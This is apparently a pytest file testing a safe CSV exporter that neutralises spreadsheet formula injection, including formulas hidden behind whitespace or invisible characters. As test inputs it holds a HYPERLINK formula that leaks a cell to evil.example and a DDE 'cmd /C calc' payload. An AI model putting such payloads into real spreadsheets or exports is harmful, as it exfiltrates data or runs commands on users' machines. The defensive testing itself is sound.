"""Safe CSV export: formula injection neutralised (also behind whitespace), exact round trip."""

from __future__ import annotations

import io
import math
import os

import pandas as pd
import pytest

from memprobe_core.report.export import (
    ExportError,
    neutralize_cell,
    read_safe_csv,
    to_safe_csv,
    write_safe_csv,
)

ORDINARY = [
    "plain text",
    "commas, inside, a cell",
    "double \"quotes\" and 'single' ones",
    "a newline\nand another\r\nline",
    "Café 東京 — naïve ünïcödé ✓ 🙂",
    "trailing spaces   ",
    "mid=dle + plus - minus @ at",
]


def read_back(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), keep_default_na=False)


def test_hyperlink_formula_is_neutralised():
    evil = '=HYPERLINK("http://evil.example/?leak="&A1, "click me")'
    frame = pd.DataFrame({"snippet_id": ["s1"], "output": [evil], "mem": [0.5]})
    data = to_safe_csv(frame)
    back = read_back(data)
    assert back.loc[0, "output"] == "'" + evil
    assert b"\n=HYPERLINK" not in data and b",=HYPERLINK" not in data
    assert back.loc[0, "mem"] == 0.5


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_owasp_prefix_is_neutralised(prefix):
    cell = prefix + "cmd|' /C calc'!A0"
    back = read_back(to_safe_csv(pd.DataFrame({"x": [cell]})))
    assert back.loc[0, "x"] == "'" + cell


def test_ordinary_text_round_trips_unchanged():
    frame = pd.DataFrame(
        {
            "text": ORDINARY,
            "n": list(range(len(ORDINARY))),
            "score": [0.125, -0.25, 1.0, 0.0, -3.5, 2.0, 0.5],
        }
    )
    data = to_safe_csv(frame)
    assert data.decode("utf-8").count("text,n,score") == 1  # one header row
    assert not data.startswith(b"\xef\xbb\xbf")  # UTF-8 without BOM
    back = read_back(data)
    # Newlines inside cells survive; CRLF inside a cell is kept as written.
    pd.testing.assert_frame_equal(back, frame, check_dtype=False)
    assert back["n"].dtype.kind == "i" and back["score"].dtype.kind == "f"


def test_numbers_stay_numbers_strings_that_look_like_formulas_do_not():
    assert neutralize_cell(-0.25) == -0.25  # a negative number is not text
    assert neutralize_cell(-3) == -3
    assert neutralize_cell(True) is True
    assert neutralize_cell(None) is None
    assert neutralize_cell("-0.25") == "'-0.25"  # as text it would be evaluated
    assert neutralize_cell(["=x"]) == ["=x"]  # str(["=x"]) starts with "[": harmless
    frame = pd.DataFrame({"delta": [-0.5, 0.25]})
    assert to_safe_csv(frame).decode() == "delta\r\n-0.5\r\n0.25\r\n"


def test_column_names_are_neutralised_too():
    back = read_back(to_safe_csv(pd.DataFrame({"=cmd": [1]})))
    assert list(back.columns) == ["'=cmd"]


def test_missing_values_stay_missing():
    frame = pd.DataFrame({"a": ["x", None], "b": [1.0, float("nan")]})
    back = pd.read_csv(io.BytesIO(to_safe_csv(frame)))
    assert back["a"].isna().tolist() == [False, True] and back["b"].isna().tolist() == [False, True]


def test_write_safe_csv(tmp_path):
    frame = pd.DataFrame({"t": ["=1+1", "ok"]})
    path = write_safe_csv(frame, tmp_path / "out.csv")
    assert read_back(path.read_bytes())["t"].tolist() == ["'=1+1", "ok"]


def test_unwritable_paths_give_clear_errors(tmp_path):
    frame = pd.DataFrame({"t": ["x"]})
    with pytest.raises(ExportError, match="does not exist; create it"):
        write_safe_csv(frame, tmp_path / "no" / "such" / "dir" / "out.csv")
    with pytest.raises(ExportError, match="is a folder"):
        write_safe_csv(frame, tmp_path)
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        if os.access(locked, os.W_OK):  # root ignores permissions: use a path under /proc
            target = "/proc/version/out.csv"
        else:
            target = locked / "out.csv"
        with pytest.raises(ExportError, match="cannot write CSV"):
            write_safe_csv(frame, target)
    finally:
        locked.chmod(0o700)


@pytest.mark.parametrize(
    "cell",
    [
        " =1+1",
        "\n=1+1",
        "\r\n=1+1",
        "\u00a0=1+1",
        "\u2003+1",
        "\u3000@SUM(A1)",
        "  \t -2+3",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\x0b\x0c=1",
        "\u2028=1",
        "\uff1d1+1",
        " \uff0b1",
        "\n\n@x",
    ],
)
def test_formulas_behind_whitespace_or_invisible_characters_are_neutralised(cell):
    data = to_safe_csv(pd.DataFrame({"x": [cell], "y": [1]}))
    assert read_back(data).loc[0, "x"] == "'" + cell
    assert read_safe_csv(data).loc[0, "x"] == cell  # and the quote comes off again


@pytest.mark.parametrize(
    "cell", ["hello =1", "  plain", "\nplain text", "a-b", "x@y.z", "\u00a0", "   "]
)
def test_text_that_is_not_a_formula_is_left_alone(cell):
    assert neutralize_cell(cell) == cell


def test_a_leading_quote_is_doubled_so_the_reader_can_remove_exactly_one():
    assert neutralize_cell("'=x") == "''=x" and neutralize_cell("'tis") == "''tis"
    data = to_safe_csv(pd.DataFrame({"t": ["'tis", "=x", "''"]}))
    assert read_back(data)["t"].tolist() == ["''tis", "'=x", "'''"]
    assert read_safe_csv(data)["t"].tolist() == ["'tis", "=x", "''"]


NA_LIKE = ["NA", "null", "None", "nan", "NaN", "N/A", "#N/A", "<NA>", "NULL", "-nan", ""]


def _na_frame() -> pd.DataFrame:
    n = len(NA_LIKE)
    return pd.DataFrame(
        {
            "text": NA_LIKE,
            "snippet_id": [f"{i:03d}" for i in range(n)],  # looks numeric: must stay text
            "formula": ["=1+1", " =1+1", "'q", "-0.25", "@a", "ok"] + ["x"] * (n - 6),
            "count": list(range(n)),
            "score": [0.5, float("nan"), -0.25] + [1.0 / 3] * (n - 3),
            "flag": [True, False] * (n // 2) + [True] * (n % 2),
            "maybe": ["a", None] + ["b"] * (n - 2),  # missing text, not named as text: stays NaN
        }
    )


def test_round_trip_keeps_na_like_text_empty_text_numbers_and_nan():
    frame = _na_frame()
    back = read_safe_csv(to_safe_csv(frame), text_columns=["text", "snippet_id", "formula"])
    assert back["text"].tolist() == NA_LIKE  # "NA", "null", "None", "nan", "" … as written
    assert back["snippet_id"].tolist() == frame["snippet_id"].tolist()
    assert back["formula"].tolist() == frame["formula"].tolist()  # exporter's quote removed
    assert back["count"].dtype.kind == "i" and back["flag"].dtype.kind == "b"
    assert back["score"].dtype.kind == "f" and math.isnan(back.loc[1, "score"])
    assert back["maybe"].isna().tolist() == frame["maybe"].isna().tolist()
    pd.testing.assert_frame_equal(back, frame, check_dtype=False)


def test_the_documented_read_csv_call_keeps_na_like_text():
    data = to_safe_csv(_na_frame())
    documented = pd.read_csv(
        io.BytesIO(data),
        encoding="utf-8",
        keep_default_na=False,
        na_values=[""],
        dtype={"text": str},
    )
    written = [neutralize_cell(c) for c in NA_LIKE]  # "-nan" carries the exporter's quote
    assert written[-2] == "'-nan"
    assert documented["text"].tolist()[:-1] == written[:-1]
    assert pd.isna(documented["text"].iloc[-1])  # "" and missing are one empty field in CSV
    assert documented.fillna({"text": ""})["text"].tolist() == written  # the documented fillna
    defaults = pd.read_csv(io.BytesIO(data))  # what the docstring warns about
    assert defaults["text"].isna().sum() >= 8


def test_readable_export_writes_iso_times_and_drops_columns_empty_in_every_row() -> None:
    from memprobe_core.report.export import readable_export

    frame = pd.DataFrame(
        {
            "created": [1764747934.0, None],
            "output": ["=1+1", "x"],
            "acr": [None, None],  # a method family this run did not use
            "flags": [[], []],
            "note": ["", ""],
            "mem": [0.5, float("nan")],
        }
    )
    out = readable_export(frame)
    assert list(out.columns) == ["created", "output", "mem"]
    assert out["created"].iloc[0] == "2025-12-03T07:45:34Z" and out["created"].iloc[1] is None
    text = to_safe_csv(out).decode()
    assert "'=1+1" in text and "1764747934" not in text


def test_results_rows_carry_the_prefix_and_true_suffix(tmp_path) -> None:
    from tests.helpers.labelled_run import SUFFIX, labelled_run

    store, run_id = labelled_run(tmp_path / "runs.sqlite")
    results = store.results_frame(run_id)
    assert (results["suffix"] == SUFFIX).all() and results["prefix"].str.startswith("x ").all()
